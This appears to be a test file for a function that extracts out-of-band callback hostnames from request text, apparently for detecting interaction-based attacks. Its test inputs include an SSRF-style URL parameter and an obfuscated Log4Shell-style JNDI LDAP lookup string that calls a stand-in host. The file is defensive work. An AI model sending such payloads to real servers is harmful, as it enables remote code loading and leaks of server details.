import { expect, it } from 'vitest';
import { placeIn } from './call-back.ts';

const id = 'abcdefghijklmnopqrstuvwxyz';

it.each([
  [`GET /?u=http://${id}.oast.example.test/x`, `${id}.oast.example.test`, `${id}.oast.example.test`],
  [`u=http%3A%2F%2F127.0.0.1%3A8053%2F${id}`, `127.0.0.1:8053/${id}`, `127.0.0.1:8053/${id}`],
  [
    `\${jndi:ldap://\${:-12}\${:-34}.\${hostName}.uri.${id}.oast.example.test/a}`,
    `${id}.oast.example.test`,
    `1234.web1.uri.${id}.oast.example.test`,
  ],
])('finds the place, and the whole name, in %s', (text, place, name) => {
  expect(placeIn(text)).toEqual({ place, name });
});

it.each(['http://192.0.2.1:80/abc', `http://192.0.2.1:80/${id}`, ''])('finds none in "%s"', (text) => {
  expect(placeIn(text)).toBeNull();
});
